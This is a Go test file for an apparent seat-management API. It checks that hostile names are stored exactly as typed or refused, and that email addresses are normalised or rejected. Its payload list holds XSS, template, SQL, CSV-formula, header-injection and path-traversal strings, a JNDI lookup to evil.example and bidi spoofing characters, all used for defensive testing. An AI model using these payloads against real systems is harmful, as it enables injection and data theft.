package api_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/usher-seats/usher/internal/api"
	"github.com/usher-seats/usher/internal/api/apitest"
	"github.com/usher-seats/usher/internal/faulttest"
	"github.com/usher-seats/usher/internal/seats"
)

// payloads are names that people could type to break out of where they are shown.
func payloads() []string {
	return []string{
		// HTML, scripts, templates
		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><svg/onload=alert(1)>`, `'><b>bold</b>`, `</title><script>alert(1)`,
		`<!-- --><!--`, `<![CDATA[x]]>`, `<a href="javascript:alert(1)">x`, `&lt;b&gt;`, `&#60;script&#62;`, `" onmouseover="alert(1)`, "`", `"`, `'`, `\`,
		`javascript:alert(1)`, `{{.Vendor}}`, `{{template "x" .}}`, `${7*7}`, `#{7*7}`, `<%= 7*7 %>`, `%s%n%d`, `[[${7*7}]]`, `{"$ref":"#/"}`,
		// headers, lines, terminals
		"Ann\r\nBcc: victim@evil.example", "Ann\nSubject: x", "Ann\rX", "a\u2028b", "a\u2029b", "x\x00y", "x\x1b[2Jy", "a\x07", "a\u0085b", "a\tb", "a\x0bb", "a\x7fb", "a\u009bb",
		"=?utf-8?B?PGI+?=",
		// what is not seen, or seen otherwise
		"gpj.\u202eexe\u202c", "\u2066a\u2069b", "pay\u200bpal\u200d.\ufeffx", "\u200b", "\u00ad", "a\u034fb", "\U000e0041x", "\u3164", "Z" + strings.Repeat("\u0301", 40),
		"\u00a0", "\u2003", "  Ann  ", "مرحبا", "עדה 123", "علی\u200cرضا", "👩\u200d💻 & Söhne", "İıſ\u212a", "\ufffd", "e\u0301", "é", "Ⅷ", "ﬁ", "\U0001f3f4\U000e0067",
		// other sinks
		`=cmd|' /C calc'!A0`, `+1+1`, `-2+3`, `@SUM(A1)`, `'; DROP TABLE users;--`, `../../etc/passwd`, `\\evil\share`, `${jndi:ldap://evil.example/a}`,
		`https://evil.example/?a=1&b=2#c`, `Ann <ann@evil.example>`, `A#acc_x`, `U#`, `null`, `true`, `0`, `[]`, `__proto__`, `*`, `%00`, `%2e%2e`,
		strings.Repeat("W", 60), strings.Repeat("🙂", 30), strings.Repeat("W", 61), strings.Repeat("🙂", 31),
	}
}

// typed is how a name is stored: as it was typed, without blanks around it; or false
// where it is refused: more than a line, too long, or nothing at all.
func typed(payload string) (string, bool) {
	s := strings.TrimSpace(payload)
	broken := strings.ContainsFunc(s, func(r rune) bool { return unicode.IsControl(r) || r == '\u2028' || r == '\u2029' })
	return s, s != "" && !broken && utf8.RuneCountInString(s) <= seats.MaxNameRunes && len(s) <= seats.MaxNameBytes
}

// Names are given back as they were typed, to the byte, or refused with the place of
// the mistake; they stand in no ledger event.
func TestHostileNamesAreStoredAsTypedOrRefused(t *testing.T) {
	t.Parallel()
	s := newSystem(t)
	x := newTenant(t, s, nil)
	user := x.Path + "/users/" + x.ids[member]
	stored, changed := 0, 0
	for _, payload := range payloads() {
		want, ok := typed(payload)
		name := fmt.Sprintf("%+q", payload)
		got := x.Owner.Patch(user, object{"first_name": payload, "last_name": payload, "qualification": payload})
		if !ok {
			got.Refused(t, http.StatusUnprocessableEntity, "invalid")
			if !names(got, "body.first_name") || !names(got, "body.last_name") {
				t.Errorf("%s: the mistakes are not named: %s", name, got.Body)
			}
			continue
		}
		stored++
		var u api.User
		got.OK(t, nil)
		oneLine(t, x.Owner.Get(user).OK(t, &u))
		if u.FirstName != want || u.LastName != want || u.Qualification != want {
			changed++
			t.Errorf("%s is given back as %+q, %+q, %+q", name, u.FirstName, u.LastName, u.Qualification)
		}
		company(t, x, payload, want)
	}
	if stored < 40 || stored > len(payloads())-10 {
		t.Errorf("%d of %d are stored", stored, len(payloads()))
	}
	for key, text := range s.Dump() {
		if strings.HasPrefix(key, "E#") && (strings.Contains(text, "alert(1)") || strings.Contains(text, "evil.example")) {
			t.Errorf("a name stands in the ledger: %s %s", key, text)
		}
	}
	faulttest.Report(t, faulttest.Figure{
		Fault: 40, Did: "hostile names through the API and back", Bad: changed, Of: len(payloads()), What: "payloads given back otherwise than typed",
		More: fmt.Sprintf("%d stored, %d refused", stored, len(payloads())-stored),
	})
}

// company sends a payload through the account's own texts.
func company(t *testing.T, x *tenant, payload, want string) {
	t.Helper()
	address := object{"name": payload, "lines": []string{payload, payload}}
	if utf8.RuneCountInString(payload) <= seats.MaxTaxIDBytes && len(payload) <= 2*seats.MaxTaxIDBytes {
		address["tax_id"] = payload
	}
	var a api.Account
	x.Owner.Patch(x.Path, object{"name": payload, "invoice_address": address}).OK(t, nil)
	oneLine(t, x.Owner.Get(x.Path).OK(t, &a))
	p := a.InvoiceAddress
	if a.Name != want || p.Name != want || len(p.Lines) != 2 || p.Lines[0] != want || p.Lines[1] != want || address["tax_id"] != nil && p.TaxID != want {
		t.Errorf("%+q is given back as %+q and %+q", payload, a.Name, p)
	}
}

// oneLine checks that an answer is JSON whose texts cannot break out of it.
func oneLine(t *testing.T, r apitest.Response) {
	t.Helper()
	text := strings.TrimSuffix(string(r.Body), "\n")
	if !json.Valid(r.Body) || !utf8.ValidString(text) || strings.ContainsFunc(text, func(c rune) bool { return c < ' ' || c == '\u2028' || c == '\u2029' }) {
		t.Errorf("the answer is no line of JSON: %+q", text)
	}
	if r.Headers["Content-Type"] != "application/json" || r.Headers["X-Content-Type-Options"] != "nosniff" || r.Headers["Cache-Control"] != "no-store" {
		t.Errorf("a browser may take the answer for something else, or keep it: %v", r.Headers)
	}
}

// Invited and opened under hostile names: the link's offer and the operators' view
// show them as typed too.
func TestHostileNamesReachTheirReadersAsTyped(t *testing.T) {
	t.Parallel()
	s := newSystem(t)
	const name = "</script>\"'\u202e{{.}}\\ & 👩\u200d💻"
	a := s.OpenWith(object{"name": name, "owner": object{"email": "o@hostile.example", "first_name": name, "last_name": name}})
	boss := s.As("o@hostile.example")
	boss.Post("/v1/me", object{"id_token": boss.IDToken}).OK(t, nil)
	var invited api.InviteResults
	boss.Post(a.Path+"/invitations", object{"people": []any{object{"email": "g@hostile.example", "first_name": name, "last_name": name, "qualification": name}}}).OK(t, &invited)
	link := a.Link(invited.Results[0].UserID, 1)
	var offer api.Offer
	oneLine(t, look(s, link).OK(t, &offer))
	if offer.AccountName != name || offer.InviterName != name+" "+name {
		t.Errorf("the offer is %+q", offer)
	}
	g := guest{s.As("g@hostile.example"), "", "", ""}
	var accepted api.Accepted
	oneLine(t, g.accept(link).OK(t, &accepted))
	var overview api.AccountOverview
	oneLine(t, s.Operator().Get("/v1/operator/accounts/"+a.ID).OK(t, &overview))
	var me api.Me
	oneLine(t, g.Get("/v1/me").OK(t, &me))
	var found struct {
		Items []api.User `json:"items"`
	}
	oneLine(t, boss.Get(a.Path+"/users?q=%3C%2FSCRIPT%3E%22%27").OK(t, &found))
	if accepted.User.FirstName != name || overview.Name != name || overview.Owner.LastName != name || me.Accounts[0].Name != name || len(found.Items) != 2 {
		t.Errorf("given back otherwise: %+q, %+q, %+v, %d found", accepted.User.FirstName, overview.Name, me.Accounts, len(found.Items))
	}
}

// An email has one form, which joins what is the same to every mail server, and
// nothing else.
func TestEmailsHaveOneForm(t *testing.T) {
	t.Parallel()
	s := newSystem(t)
	x := newTenant(t, s, nil)
	same := map[string]string{
		"Ann@Example.COM": "ann@example.com", " bob@example.com\u00a0": "bob@example.com", "CY+News@example.com": "cy+news@example.com", "cy@example.com": "cy@example.com",
		"dee@bücher.example": "dee@xn--bcher-kva.example", "eve@BÜCHER.example": "eve@xn--bcher-kva.example", "fay@bu\u0308cher.example": "fay@xn--bcher-kva.example",
		"gil@xn--bcher-kva.example": "gil@xn--bcher-kva.example", "hal@XN--BCHER-KVA.example": "hal@xn--bcher-kva.example", "ida@example。com": "ida@example.com",
		"joe@ｅｘａｍｐｌｅ.com": "joe@example.com", "kai@straße.example": "kai@xn--strae-oqa.example",
		// Letters that only look like others, or become them in some language, stay.
		"mia@example.com": "mia@example.com", "mıa@example.com": "mıa@example.com", "mİa@example.com": "mİa@example.com", "miſa@example.com": "miſa@example.com",
		"\u212a@example.com": "\u212a@example.com", "k@example.com": "k@example.com", "аnn@example.com": "аnn@example.com", "É@example.com": "É@example.com", "é@example.com": "é@example.com",
		"o'hara@example.com": "o'hara@example.com", "a.b.c@example.com": "a.b.c@example.com", "abc@example.com": "abc@example.com", "!#$%&*+/=?^_`{|}~-@example.com": "!#$%&*+/=?^_`{|}~-@example.com",
	}
	var people []any
	var wants []string
	for raw, want := range same {
		people = append(people, object{"email": raw, "first_name": "A", "last_name": "B"})
		wants = append(wants, want)
	}
	var results api.InviteResults
	x.Owner.Post(x.Path+"/invitations", object{"people": people}).OK(t, &results)
	for i, r := range results.Results {
		if r.Error != nil || r.Email != wants[i] {
			t.Errorf("%+q is %+q, want %+q: %+v", people[i].(object)["email"], r.Email, wants[i], r.Error)
		}
	}
	// All of them are taken, in whatever spelling.
	again := []any{}
	for _, raw := range []string{"ANN@EXAMPLE.com", "bob@example.com", "cy+NEWS@example.com", "dee@xn--bcher-kva.example", "dee@Bücher.Example", "kai@STRASSE.example"} {
		again = append(again, object{"email": raw, "first_name": "A", "last_name": "B"})
	}
	x.Owner.Post(x.Path+"/invitations", object{"people": again}).OK(t, &results)
	for i, r := range results.Results {
		if taken := r.Error != nil && r.Error.Code == "email_taken"; taken != (i < 5) { // the last is another domain
			t.Errorf("%+q: %+v", again[i].(object)["email"], r)
		}
	}
	// Whoever signs in under the same address in another spelling is the invited.
	for i, typed := range []string{"Zoe@Bücher.example", "ZED+x@Example.com"} {
		signsIn := []string{"zoe@xn--bcher-kva.example", "zed+X@example.com"}[i]
		r := x.Invite(map[string]string{"email": typed, "first_name": "Z", "last_name": "Z"})[0]
		guest{s.As(signsIn), "", "", ""}.accept(x.Link(r.UserID, 1)).OK(t, nil)
	}
}

func TestWhatIsNoEmailIsRefused(t *testing.T) {
	t.Parallel()
	s := newSystem(t)
	x := newTenant(t, s, nil)
	before := s.Dump()
	for _, raw := range []string{
		"", " ", "ann", "@", "@example.com", "ann@", "ann@localhost", "ann@example.", "ann@.example", "ann@example..com", ".ann@example.com", "ann.@example.com", "a..n@example.com",
		"ann @example.com", "ann@exa mple.com", "<ann@example.com>", "Ann <ann@example.com>", "ann@example.com\r\nBcc: x@y.example", "ann@example.com\nx", "ann\t@example.com",
		"ann@example.com,bob@example.com", "ann@example.com;bob@example.com", `"ann"@example.com`, `ann\@example.com`, "ann(x)@example.com", "mailto:ann@example.com", "ann@[127.0.0.1]",
		"ann@-example.com", "ann@example-.com", "ann@exa_mple.com", "ann@example.com\x00", "ann\u200b@example.com", "ann\u202e@example.com", "ann@xn--.example", "ann@exam!ple.com",
		"ann＠example.com", "ann@example.com/x", "ann@example.com?subject=x", "ann%40example.com", "ann@@example.com", "a@b@example.com@", "👩@example.com",
		strings.Repeat("l", 65) + "@example.com", "ann@" + strings.Repeat("d", 64) + ".example", longEmail(64, 255),
	} {
		got := x.Owner.Post(x.Path+"/invitations", object{"people": []any{object{"email": raw, "first_name": "A", "last_name": "B"}}})
		got.Refused(t, http.StatusUnprocessableEntity, "invalid")
		if !names(got, "body.people[0].email") {
			t.Errorf("%+q: the mistake is not named: %s", raw, got.Body)
		}
		if raw != "" {
			x.Owner.Patch(x.Path, object{"billing_contact": raw}).Refused(t, http.StatusUnprocessableEntity, "invalid")
		}
	}
	for _, change := range apitest.Changes(before, s.Dump()) {
		t.Errorf("changed: %s", change)
	}
}
